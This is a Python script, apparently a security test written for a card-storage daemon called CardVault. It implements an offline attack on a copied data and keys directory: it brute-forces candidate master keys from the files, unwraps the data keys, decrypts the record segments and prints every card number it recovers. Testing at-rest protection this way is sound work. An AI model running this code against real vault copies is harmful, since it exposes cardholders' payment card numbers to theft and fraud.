"""The offline attack on a copy of a CardVault file-mode install: someone holds a copy of the daemon's `data/` and
`keys/` directories and nothing else (no running daemon, no credentials, no knowledge of which file is the key).

It is implemented from the documented formats only, not by calling into CardVault:
- keys: `keys/master.key` is the key-encryption key, 32 raw bytes (docs/operations.md, "Files"). The attacker does
  not rely on that name: every file of both directories yields candidates (`candidate_keys`). `data/keyring.json`
  (Sources/VaultCrypto/KeyRing.swift, `KeyRingFile`) holds `kekCheck` = base64 of the first 16 bytes of
  HMAC-SHA256(master, "cardvault master key check v1"), and each data key (`dataKeys[].wrapped`) and the
  `fingerprintSecret` as base64 of AES-256-GCM `nonce (12) || ciphertext || tag (16)` under the master key, with
  the AAD "cardvault data key v<version>" / "cardvault fingerprint secret v1".
- records: `data/segments/NNNNNNNN.seg` starts with a 16-byte header ("CVSEG001", u32 segment number, u32 0;
  EncryptedFileStore.writeSegmentHeader), then frames (RecordFrame.swift, little-endian): u32 length, u8 kind
  (1 put, 2 delete), u8 flags, u8 collection length, u8 id length, u32 data key version, u64 record version, u32
  CRC-32C of bytes 0..<20 and the names, the collection and id, the sealed value (puts only: AES-256-GCM
  `nonce || ciphertext || tag` under that data key version) and a u32 CRC-32C trailer. The value's AAD is
  "cvr1", kind (1), u32 key version, u64 record version, u8 length + collection, u8 length + id
  (RecordFrame.writeAuthenticatedData).
- card numbers: the `card-numbers` collection (VaultStore/Collections.swift) holds one record per card, the byte 1,
  the ASCII digits, "|" and the expiry MMYY (Payments/CardRegistrationService.swift, `CardNumberRecord`). Every
  other decrypted record, and every raw file, is also searched for digit runs that look like a card number.

`recover_card_numbers(data_dir, keys_dir)` returns every card number found; run this file as
`python3 offline_attack.py DATA_DIR KEYS_DIR` for a report. Needs the `cryptography` package.
"""
import base64
import binascii
import hashlib
import hmac
import json
import os
import re
import struct
import sys

from cryptography.exceptions import InvalidTag
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

KEY_SIZE = 32
WINDOW_FILE_LIMIT = 4096          # files up to this size give every 32-byte window as a candidate
KEYRING_FILE_LIMIT = 1 << 20      # a keyring is a small JSON file
NONCE_SIZE, TAG_SIZE = 12, 16
KEK_CHECK_LABEL = b"cardvault master key check v1"
FINGERPRINT_LABEL = b"cardvault fingerprint secret v1"
SEGMENT_MAGIC, SEGMENT_HEADER_SIZE = b"CVSEG001", 16
FRAME_HEADER = struct.Struct("<IBBBBIQI")  # length, kind, flags, collection len, id len, key ver, record ver, CRC
FRAME_TRAILER_SIZE = 4
KIND_PUT, KIND_DELETE = 1, 2
VAULT_COLLECTION = b"card-numbers"

# Hex (64 digits) or base64 (43 characters and "=") text that may hold a 32-byte key. Base64 runs must stand alone,
# so the 80-character wrapped keys of the keyring are not cut into pieces.
HEX_KEY = re.compile(rb"(?<![0-9A-Fa-f])[0-9A-Fa-f]{64}(?![0-9A-Fa-f])")
BASE64_KEY = re.compile(rb"(?<![A-Za-z0-9+/=_-])[A-Za-z0-9+/_-]{43}=?(?![A-Za-z0-9+/=_-])")
# Maximal digit runs (up to 20: a length byte may lead) in ASCII/UTF-8 and UTF-16 (LE and BE), not part of a longer
# alphanumeric token (hex digests, base64).
DIGIT_RUNS = [
    re.compile(rb"(?<![0-9A-Za-z])[0-9]{12,20}(?![0-9A-Za-z])"),
    re.compile(rb"(?<![0-9A-Za-z]\x00)(?:[0-9]\x00){12,19}(?![0-9A-Za-z]\x00)"),
    re.compile(rb"(?<!\x00[0-9A-Za-z])(?:\x00[0-9]){12,19}(?!\x00[0-9A-Za-z])"),
]
PRINTABLE = re.compile(rb"[\x20-\x7e]*")
# (issuer prefix, lengths) of the brands the daemon accepts, the main rows of CardKit/BrandCatalog+Standard.swift and
# CardBrand.lengths: Luhn alone passes one number in ten, and record ids hold digit runs in clear
# (`<12 digits of Unix seconds>:` deadlines, `clientId:<16 digits of Unix microseconds>:` event ids).
BRANDS = [(re.compile(prefix), lengths) for prefix, lengths in [
    (r"4", (16, 18, 19)),                                     # Visa (Elo and Verve rows too)
    (r"5[1-5]|222[1-9]|22[3-9]|2[3-6]|27[01]|2720", (16,)),   # Mastercard
    (r"3[47]", (15,)),                                        # American Express
    (r"30[0-5]|3[689]", (14, 16, 19)),                        # Diners Club
    (r"35[2-8]|2131|1800", (16, 17, 18, 19)),                 # JCB
    (r"220[0-4]", (16, 17, 18, 19)),                          # Mir
    (r"5[06-9]|6|81", tuple(range(12, 20))),                  # Maestro, Discover, UnionPay, the other 5x/6x rows
    (r"9792", (16,)),                                         # Troy
]]


def _crc32c(data, crc=0):
    """CRC-32C (Castagnoli, reflected 0x82F63B78), continuing from `crc` (RecordFrame's header check)."""
    crc ^= 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = (crc >> 1) ^ 0x82F63B78 if crc & 1 else crc >> 1
    return crc ^ 0xFFFFFFFF


def luhn_valid(digits):
    total = 0
    for index, digit in enumerate(int(d) for d in reversed(digits)):
        doubled = digit * 2 if index % 2 else digit
        total += doubled - 9 if doubled > 9 else doubled
    return total % 10 == 0


def _files(*directories):
    """(path, bytes) of every regular file under the directories, recursively."""
    for directory in directories:
        for root, _, names in os.walk(directory):
            for name in sorted(names):
                path = os.path.join(root, name)
                try:
                    if not os.path.isfile(path):  # sockets (admin.sock), FIFOs
                        continue
                    with open(path, "rb") as handle:
                        yield path, handle.read()
                except OSError:
                    continue


def looks_like_pan(digits):
    """True for 12-19 digits of a brand's prefix and length that pass Luhn."""
    return any(prefix.match(digits) and len(digits) in lengths for prefix, lengths in BRANDS) and luhn_valid(digits)


def _length_prefix(blob, start):
    """Whether the byte at `start` is the length of the printable string after it (the u8-length-prefixed ids of
    index.checkpoint: an id length of 48-57 reads as a digit)."""
    end = start + 1 + blob[start]
    return (end <= len(blob) and PRINTABLE.fullmatch(blob, start + 1, end) is not None
            and (end == len(blob) or not 0x20 <= blob[end] <= 0x7E))


def _pans_in(blob):
    """Every card number in `blob`: runs of digits (ASCII or UTF-16) that pass ``looks_like_pan``."""
    found = set()
    for pattern in DIGIT_RUNS:
        for match in pattern.finditer(blob):
            digits = match.group().replace(b"\x00", b"").decode("ascii")
            if pattern is DIGIT_RUNS[0] and _length_prefix(blob, match.start()):
                digits = digits[1:]
            if looks_like_pan(digits):
                found.add(digits)
    return found


def candidate_keys(data_dir, keys_dir) -> dict[bytes, str]:
    """Every 32-byte value any file of both directories could hold as a key: the whole file when it is 32 bytes,
    every 32-byte window of files up to 4 KiB, and hex or base64 text decoding to 32 bytes anywhere.
    Returns {candidate: where it came from}, in discovery order (keys/ first)."""
    candidates = {}
    for path, content in _files(keys_dir, data_dir):
        if len(content) <= WINDOW_FILE_LIMIT:
            for offset in range(len(content) - KEY_SIZE + 1):
                candidates.setdefault(content[offset:offset + KEY_SIZE], "%s@%d" % (path, offset))
        text = content.replace(b"\\/", b"/")  # JSON escapes "/" in base64
        for match in HEX_KEY.finditer(text):
            candidates.setdefault(binascii.unhexlify(match.group()), "%s (hex)" % path)
        for match in BASE64_KEY.finditer(text):
            token = match.group()
            try:
                decoded = base64.b64decode(token.replace(b"-", b"+").replace(b"_", b"/") + b"=" * (-len(token) % 4))
            except binascii.Error:
                continue
            if len(decoded) == KEY_SIZE:
                candidates.setdefault(decoded, "%s (base64)" % path)
    return candidates


def _open(key, sealed, aad):
    """AES-256-GCM open of `nonce || ciphertext || tag`, or None when it does not authenticate."""
    if len(sealed) < NONCE_SIZE + TAG_SIZE:
        return None
    try:
        return AESGCM(key).decrypt(sealed[:NONCE_SIZE], sealed[NONCE_SIZE:], aad)
    except InvalidTag:
        return None


def _keyrings(data_dir):
    """Every keyring file of the data directory (keyring.json, and any leftover copy such as keyring.json.tmp)."""
    for path, content in _files(data_dir):
        try:
            ring = json.loads(content) if len(content) <= KEYRING_FILE_LIMIT else None
        except ValueError:
            continue
        if isinstance(ring, dict) and "kekCheck" in ring and isinstance(ring.get("dataKeys"), list):
            yield path, ring


def unwrap_data_keys(data_dir, keys_dir, report=None):
    """{data key version: [keys]} unwrapped from every keyring under every candidate that is its master key.
    A candidate is the master key when it gives the keyring's kekCheck, or (should the check be absent or wrong)
    when it opens one of its wrapped keys."""
    candidates = candidate_keys(data_dir, keys_dir)
    data_keys = {}
    for ring_path, ring in _keyrings(data_dir):
        check = base64.b64decode(ring.get("kekCheck") or "")
        wrapped = {entry["version"]: base64.b64decode(entry["wrapped"])
                   for entry in ring["dataKeys"] if entry.get("wrapped")}
        for candidate, source in candidates.items():
            matches = hmac.compare_digest(hmac.new(candidate, KEK_CHECK_LABEL, hashlib.sha256).digest()[:16], check)
            opened = {version: _open(candidate, box, b"cardvault data key v%d" % version)
                      for version, box in wrapped.items()}
            opened = {version: key for version, key in opened.items() if key is not None}
            if not matches and not opened:
                continue
            for version, key in opened.items():
                if key not in data_keys.setdefault(version, []):
                    data_keys[version].append(key)
            if report is not None:
                secret = _open(candidate, base64.b64decode(ring.get("fingerprintSecret") or ""), FINGERPRINT_LABEL)
                report.append("master key for %s from %s: kekCheck %s, data key versions %s, fingerprint secret %s"
                              % (ring_path, source, "matches" if matches else "differs", sorted(opened),
                                 "opened" if secret else "not opened"))
    return data_keys


def decrypted_records(data_dir, data_keys):
    """(collection, id, record version, plaintext) of every put frame in every segment file that opens under the
    data key its frame names, deleted and overwritten records included (until compaction removes them)."""
    for _, data in _files(data_dir):
        if not data.startswith(SEGMENT_MAGIC):
            continue
        end = len(data.rstrip(b"\x00"))  # zeros at the end: space preallocated and never written
        position = SEGMENT_HEADER_SIZE
        while position < end:
            frame = _parse_frame(data, position)
            if frame is None:  # damage or a torn write: look for the next frame one byte further
                position += 1
                continue
            length, kind, collection, record_id, key_version, record_version, sealed = frame
            if kind == KIND_PUT:
                aad = (b"cvr1" + bytes([KIND_PUT]) + struct.pack("<IQ", key_version, record_version)
                       + bytes([len(collection)]) + collection + bytes([len(record_id)]) + record_id)
                for key in data_keys.get(key_version, []):
                    plain = _open(key, sealed, aad)
                    if plain is not None:
                        yield collection.decode(), record_id.decode(), record_version, plain
                        break
            position += length


def _parse_frame(data, position):
    """The frame at `position` when its header is sound (RecordFrame.parse's checks and header CRC), else None."""
    if position + FRAME_HEADER.size > len(data):
        return None
    length, kind, flags, collection_length, id_length, key_version, record_version, header_crc = \
        FRAME_HEADER.unpack_from(data, position)
    names_end = FRAME_HEADER.size + collection_length + id_length
    minimum = names_end + FRAME_TRAILER_SIZE + (NONCE_SIZE + TAG_SIZE if kind == KIND_PUT else 0)
    if (kind not in (KIND_PUT, KIND_DELETE) or flags & ~3 or not collection_length or not id_length
            or length < minimum or (kind == KIND_DELETE and length != minimum) or position + length > len(data)):
        return None
    names = data[position + FRAME_HEADER.size:position + names_end]
    if _crc32c(names, _crc32c(data[position:position + 20])) != header_crc:
        return None
    sealed = data[position + names_end:position + length - FRAME_TRAILER_SIZE]
    return (length, kind, names[:collection_length], names[collection_length:], key_version, record_version,
            sealed)


def vault_number(plaintext):
    """The digits of a `card-numbers` record (byte 1, digits, "|", MMYY), or None."""
    if plaintext[:1] != b"\x01" or b"|" not in plaintext:
        return None
    digits = plaintext[1:plaintext.index(b"|")]
    return digits.decode() if digits.isdigit() and 12 <= len(digits) <= 19 and luhn_valid(digits.decode()) else None


def clear_card_numbers(data_dir, keys_dir) -> set[str]:
    """Card numbers readable without any key: digit runs in the raw files themselves (there should be none)."""
    found = set()
    for _, content in _files(data_dir, keys_dir):
        found |= _pans_in(content)
    return found


def recover_card_numbers(data_dir, keys_dir, report=None) -> set[str]:
    """Every card number recoverable from the copy: clear ones in the raw files, the `card-numbers` records, and
    digit runs that look like card numbers in every other record that decrypts."""
    found = clear_card_numbers(data_dir, keys_dir)
    if report is not None:
        report.append("card numbers in clear in the raw files: %d" % len(found))
    data_keys = unwrap_data_keys(data_dir, keys_dir, report)
    opened = vaulted = 0
    for collection, _, _, plaintext in decrypted_records(data_dir, data_keys):
        opened += 1
        number = vault_number(plaintext) if collection.encode() == VAULT_COLLECTION else None
        if number:
            vaulted += 1
            found.add(number)
        found |= _pans_in(plaintext)
    if report is not None:
        report.append("records decrypted: %d, of them card-numbers records: %d" % (opened, vaulted))
    return found


if __name__ == "__main__":
    if len(sys.argv) != 3:
        sys.exit("usage: offline_attack.py DATA_DIR KEYS_DIR")
    lines = []
    numbers = recover_card_numbers(sys.argv[1], sys.argv[2], lines)
    print("\n".join(lines))
    print("card numbers recovered: %d" % len(numbers))
    for number in sorted(numbers):
        print(number)
